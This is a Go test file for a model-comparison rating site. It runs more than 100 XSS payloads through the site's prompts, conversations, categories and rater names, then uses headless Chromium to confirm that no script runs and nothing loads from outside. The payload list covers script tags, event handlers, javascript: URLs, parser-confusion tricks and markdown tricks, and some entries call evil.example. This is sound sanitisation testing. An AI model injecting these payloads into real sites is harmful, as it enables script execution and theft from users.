package rate_test

import (
	"context"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/chromedp"
	"golang.org/x/net/html"

	"modeltrial/audit"
	"modeltrial/eval/rate"
)

// payloads try to run a script that sets window.pwned.
var payloads = []string{
	`<script>pwned=1</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<img src=x onerror=pwned=1>`, `<svg onload=pwned=1>`,
	`<svg><script>pwned=1</script></svg>`, `<body onload=pwned=1>`, `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
	`<iframe src="javascript:parent.pwned=1"></iframe>`, `<a href="javascript:pwned=1">x</a>`, `[x](javascript:pwned=1)`, `[x](JaVaScRiPt:pwned=1)`,
	`[x](data:text/html,<script>pwned=1</script>)`, `![x](javascript:pwned=1)`, `![x](x"onerror="pwned=1)`, `![x](https://evil.example/x.png)`,
	`<javascript:pwned=1>`, `<input autofocus onfocus=pwned=1>`, `<details open ontoggle=pwned=1>`, `<video><source onerror=pwned=1></video>`,
	`<audio src=x onerror=pwned=1>`, `<object data="javascript:pwned=1"></object>`, `<embed src="javascript:pwned=1">`, `<math><mtext></form><form><mglyph><style></math><img src onerror=pwned=1>`,
	`<style>@import 'https://evil.example/x.css';</style>`, `<link rel=stylesheet href=https://evil.example/x.css>`, `<meta http-equiv=refresh content="0;url=javascript:pwned=1">`,
	`<base href=https://evil.example/>`, `<form action=https://evil.example><button>x</button></form>`, `</div></section></main><script>pwned=1</script>`,
	`</textarea><script>pwned=1</script>`, `</title><script>pwned=1</script>`, `--><script>pwned=1</script>`, `<!--><img src=x onerror=pwned=1>-->`,
	`<noscript><p title="</noscript><img src=x onerror=pwned=1>">`, `"><img src=x onerror=pwned=1>`, `' onmouseover='pwned=1`, "```\"><script>pwned=1</script>\n```",
	"```html onload=pwned=1\n</code></pre><script>pwned=1</script>\n```", "`</code><script>pwned=1</script>`", `| a |` + "\n|---|\n" + `| <img src=x onerror=pwned=1> |`,
	`# <img src=x onerror=pwned=1>`, `<p style="background:url(javascript:pwned=1)">x</p>`, `<div style="position:fixed;inset:0">x</div>`, `<xss onclick=pwned=1 id=verdict>x</xss>`,
	`&lt;script&gt;pwned=1&lt;/script&gt;`, `&#60;script&#62;pwned=1&#60;/script&#62;`, `\<script>pwned=1\</script>`, "<scr\x00ipt>pwned=1</scr\x00ipt>", "<img src=x\nonerror\n=pwned=1>",
	`<a href="&#x6A;avascript:pwned=1">x</a>`, `[x]: javascript:pwned=1` + "\n\n[x]", `<template><script>pwned=1</script></template>`, `{{.ID}}{{template "head"}}`, `<button popovertarget=help formaction=javascript:pwned=1>x</button>`,
	// Events that need nobody.
	`<img/src/onerror=pwned=1>`, `<img src=x:x onerror="pwned=1">`, `<IMG SRC=x ONERROR=pwned=1>`, `<image src=x onerror=pwned=1>`, `<img srcset=x onerror=pwned=1>`, `<picture><source srcset=x><img onerror=pwned=1 src=x></picture>`,
	`<svg/onload=pwned=1>`, `<svg><animate onbegin=pwned=1 attributeName=x dur=1s>`, `<svg><set onbegin=pwned=1 attributeName=x>`, `<svg><image href=x onerror=pwned=1>`, `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>pwned=1</script></svg>#x"/>`,
	`<style onload=pwned=1></style>`, `<link rel=stylesheet href=/assets/rate.css onload=pwned=1>`, `<script src=/assets/none.js onerror=pwned=1></script>`, `<iframe onload=pwned=1></iframe>`, `<object data=x onerror=pwned=1></object>`, `<embed src=x onload=pwned=1>`,
	`<input type=image src=x onerror=pwned=1>`, `<select autofocus onfocus=pwned=1>`, `<textarea autofocus onfocus=pwned=1>`, `<keygen autofocus onfocus=pwned=1>`, `<a autofocus tabindex=1 onfocus=pwned=1>x</a>`, `<div contenteditable autofocus onfocus=pwned=1>x</div>`,
	`<marquee onstart=pwned=1>x</marquee>`, `<video src=x onerror=pwned=1></video>`, `<video poster=x onloadstart=pwned=1 src=x></video>`, `<audio autoplay onloadstart=pwned=1 src=x></audio>`, `<body onpageshow=pwned=1>`, `<body onfocus=pwned=1>`, `<frameset onload=pwned=1>`,
	`<p style="animation:x" onanimationstart=pwned=1>x</p><style>@keyframes x{}</style>`, `<p style="transition:all 1ms" ontransitionrun=pwned=1>x</p>`, `<dialog open onclose=pwned=1>x</dialog>`, `<div popover ontoggle=pwned=1>x</div>`, `<x onscrollend=pwned=1 style=display:block;overflow:auto>x</x>`,
	// Scripts in other clothes.
	`<script>/*</script>*/pwned=1</script>`, `<scr<script>ipt>pwned=1</scr</script>ipt>`, `<script type=module>window.pwned=1</script>`, `<script>window["pwn"+"ed"]=1</script>`, `<script	>pwned=1</script >`, `<script/x>pwned=1</script/x>`, "<script\x0c>pwned=1</script>", `<svg><script href="data:text/javascript,pwned=1"></script></svg>`,
	`<script src="data:text/javascript,pwned=1"></script>`, `<iframe src="data:text/html,<script>parent.pwned=1</script>"></iframe>`, `<object data="data:text/html,<script>parent.pwned=1</script>"></object>`, `<iframe srcdoc="&lt;script&gt;parent.pwned=1&lt;/script&gt;"></iframe>`, `<math><mi><style><img src=x onerror=pwned=1></style></mi></math>`,
	// Parsers led astray.
	`<svg></p><style><a id="</style><img src=x onerror=pwned=1>">`, `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=pwned=1&gt;">`, `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=pwned=1 src>">`,
	`<noembed><img title="</noembed><img src=x onerror=pwned=1>"></noembed>`, `<xmp><p title="</xmp><img src=x onerror=pwned=1>">`, `<plaintext><img src=x onerror=pwned=1>`, `<!--[if true]><script>pwned=1</script><![endif]-->`, `<!--><script>pwned=1</script>`, `<![CDATA[<script>pwned=1</script>]]>`, `<?xml version="1.0"?><script>pwned=1</script>`,
	`<table><td><script>pwned=1</script></table>`, `<select><option><script>pwned=1</script></select>`, `<title><script>pwned=1</script></title>`, `</p></div></section></main></body><body onload=pwned=1>`, `"autofocus onfocus=pwned=1 x="`, `'"></script><script>pwned=1</script>`, "\u2028<script>pwned=1</script>", "<img src=`x`onerror=pwned=1>", `<img src="x` + "`" + `<script>pwned=1</script>"` + "`" + `>`,
	// Markdown led astray.
	`[x](<javascript:pwned=1>)`, `[x](vbscript:pwned=1)`, `[x](jav&#x09;ascript:pwned=1)`, `[x](javascript&colon;pwned=1)`, `<https://x" onclick="pwned=1>`, `[a](https://x "t" onmouseover=pwned=1)`, `![a](x){onerror=pwned=1}`, `[![x](x"onerror="pwned=1)](javascript:pwned=1)`, "~~~\"onload=pwned=1\n</code><script>pwned=1</script>\n~~~",
	"    <script>pwned=1</script>", "> <img src=x onerror=pwned=1>", "- [ ] <img src=x onerror=pwned=1>", "1. <script>pwned=1</script>", "**<svg/onload=pwned=1>**", "| <script>pwned=1</script> |\n|:--\"onload=pwned=1|\n", "[^1]: <script>pwned=1</script>\n\n[^1]", "$$<script>pwned=1</script>$$", `<a href=https://evil.example/ ping=https://evil.example/>x</a>`, `[x]: <javascript:pwned=1> "title"` + "\n\n[x][x]",
}

func hostileComparisons() []fakeComparison {
	var all []fakeComparison
	for _, payload := range payloads {
		all = append(all, fakeComparison{
			task: audit.Task{
				System: payload, Prompt: payload,
				Conversation: []audit.Message{{Role: "user", Content: payload}, {Role: "assistant", Content: payload}, {Role: payload, Content: payload}},
			},
			control: payload, candidate: "text\n\n" + payload,
		})
	}
	return all
}

// TestHostileText requires that the page's elements and attributes are the same
// dangerous few, whatever the texts are.
func TestHostileText(t *testing.T) {
	store := newFakeStore(hostileComparisons()...)
	token := store.invite(t, payloads[0])
	site := newSite(t, store, t.Output())
	for _, payload := range payloads {
		page := do(t, "GET", site.URL+"/", token, "").body
		document, err := html.Parse(strings.NewReader(page))
		if err != nil {
			t.Fatal(err)
		}
		counts := map[string]int{}
		for node := range document.Descendants() {
			if node.Type != html.ElementNode {
				continue
			}
			counts[node.Data]++
			switch node.Data {
			case "img", "iframe", "svg", "math", "object", "embed", "style", "base", "video", "audio", "template", "noscript", "xss":
				t.Errorf("%q gives <%s>", payload, node.Data)
			}
			for _, a := range node.Attr {
				if strings.HasPrefix(a.Key, "on") || a.Key == "style" || a.Key == "srcdoc" || a.Key == "formaction" {
					t.Errorf("%q gives <%s %s=%q>", payload, node.Data, a.Key, a.Val)
				}
				if (a.Key == "href" || a.Key == "src" || a.Key == "action") && !strings.HasPrefix(a.Val, "/") && !strings.HasPrefix(a.Val, "#") {
					t.Errorf("%q gives <%s %s=%q>", payload, node.Data, a.Key, a.Val)
				}
			}
		}
		for name, want := range map[string]int{"script": 1, "link": 1, "form": 1, "textarea": 1, "title": 1} {
			if counts[name] != want {
				t.Errorf("%q gives %d <%s>, want %d", payload, counts[name], name, want)
			}
		}
		do(t, "POST", site.URL+"/verdict", token, "verdict=tie&id="+current(t, store, 1))
	}
}

// batches are the payloads in parts, each of which fits on one page. Those that swallow
// what follows them stand alone.
func batches() [][]string {
	swallows := regexp.MustCompile(`(?i)<!--|<plaintext|<xmp|<noembed|<noscript|<title|<style|<textarea|<select|<iframe|<template|<frameset|~~~|^\x60{3}|<math|<\?|<!\[`)
	var all [][]string
	var open []string
	for _, payload := range payloads {
		if swallows.MatchString(payload) {
			all = append(all, []string{payload})
			continue
		}
		if open = append(open, payload); len(open) == 12 {
			all, open = append(all, open), nil
		}
	}
	return append(all, open)
}

// ran asks a page whether a payload's script did, and what the page loaded from elsewhere.
const ran = `[typeof window.pwned, document.images.length,
	performance.getEntriesByType("resource").filter(r => !r.name.startsWith(location.origin + "/assets/")).length].join()`

// TestHostileTextInBrowser shows the payloads to Chromium as prompts, system prompts,
// conversations, answers and names of raters, on a page for each batch. That a script
// would be noticed is shown first by pages with the same payloads as they are.
func TestHostileTextInBrowser(t *testing.T) {
	if len(payloads) < 100 {
		t.Fatalf("%d payloads, want 100 or more", len(payloads))
	}
	ctx := newBrowser(t)
	look := func(address string) string {
		t.Helper()
		// What loads late has a moment to run.
		if err := chromedp.Do(ctx, chromedp.Navigate(address), chromedp.Sleep(50*time.Millisecond)); err != nil {
			t.Fatal(err)
		}
		got, err := chromedp.Run(ctx, chromedp.Evaluate[string](ran))
		if err != nil {
			t.Fatal(err)
		}
		return got
	}
	parts := batches()
	raw := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		i, err := strconv.Atoi(strings.Trim(r.URL.Path, "/"))
		if err == nil && i < len(parts) {
			_, _ = io.WriteString(w, "<!doctype html><p>"+strings.Join(parts[i], "</p>\n<p>")) // the test asks for it
		}
	}))
	t.Cleanup(raw.Close)
	noticed := 0
	for i := range parts {
		if strings.HasPrefix(look(fmt.Sprintf("%s/%d", raw.URL, i)), "number") {
			noticed++
		}
	}
	if noticed < len(parts)/2 {
		t.Errorf("payloads ran on %d of %d pages that show them as they are: the test would notice too little", noticed, len(parts))
	}
	t.Logf("%d payloads on %d pages; as they are they run on %d of them", len(payloads), len(parts), noticed)

	var comparisons []fakeComparison
	for _, part := range parts {
		text := strings.Join(part, "\n\n")
		comparisons = append(comparisons, fakeComparison{
			task: audit.Task{
				System: text, Prompt: text,
				Conversation: []audit.Message{{Role: "user", Content: text}, {Role: "assistant", Content: text}, {Role: part[0], Content: text}},
			},
			control: text, candidate: "text\n\n" + text,
		})
	}
	store := newFakeStore(comparisons...)
	token := store.invite(t, strings.Join(payloads, " "))
	site := newSite(t, store, t.Output())
	look(site.URL + "/r/" + token)
	for i, part := range parts {
		for _, path := range []string{"/", "/previous", "/guess"} {
			if i%8 != 1 && path != "/" {
				continue // they show the same in another place
			}
			if got := look(site.URL + path); got != "undefined,0,0" {
				t.Errorf("%s with %q: scripts, images and loads are %q, want none", path, part, got)
			}
		}
		got, err := chromedp.Run(ctx, chromedp.Evaluate[string](`location.pathname + document.querySelectorAll(".answer").length`))
		if err != nil || !strings.HasSuffix(got, "2") || (i%8 != 1 && got != "/2") {
			t.Errorf("%q leads to %q, %v", part, got, err)
		}
		do(t, "POST", site.URL+"/verdict", token, "verdict=tie&id="+current(t, store, 1))
	}
}

// hostileReviews is a store of one task.
type hostileReviews struct{ task rate.ReviewTask }

func (h hostileReviews) ReviewTask(context.Context, string) (rate.ReviewTask, error) {
	return h.task, nil
}

func (hostileReviews) SaveReview(context.Context, string, audit.Category) error { return nil }

// TestHostileCategoriesInBrowser shows the payloads as categories, teams and models of
// the review page.
func TestHostileCategoriesInBrowser(t *testing.T) {
	ctx := newBrowser(t)
	text := strings.Join(payloads, " ")
	var categories []rate.ReviewCategory
	for i, payload := range payloads {
		categories = append(categories, rate.ReviewCategory{Name: audit.Category(fmt.Sprint(i, payload)), Description: payload})
	}
	task := rate.ReviewTask{
		Task:    audit.Task{ID: payloads[0], Prompt: text, System: text, Team: text, Model: text, Conversation: []audit.Message{{Role: text, Content: text}}},
		Guesses: []audit.Guess{{Category: audit.Category(text), Probability: 0.5}}, Evidence: payloads,
	}
	site := httptest.NewServer(rate.NewReviewHandler(rate.NewReviewQueue(hostileReviews{task}, []string{task.Task.ID}), rate.ReviewOptions{Token: "token", Categories: categories}))
	t.Cleanup(site.Close)
	if err := chromedp.Do(ctx, chromedp.Navigate(site.URL+"/r/token"), chromedp.Sleep(50*time.Millisecond)); err != nil {
		t.Fatal(err)
	}
	got, err := chromedp.Run(ctx, chromedp.Evaluate[string](ran+` + "," + document.querySelectorAll('button[name="category"]').length`))
	if want := fmt.Sprintf("undefined,0,0,%d", len(payloads)); err != nil || got != want {
		t.Errorf("scripts, images, loads and categories are %q, %v, want %q", got, err, want)
	}
}
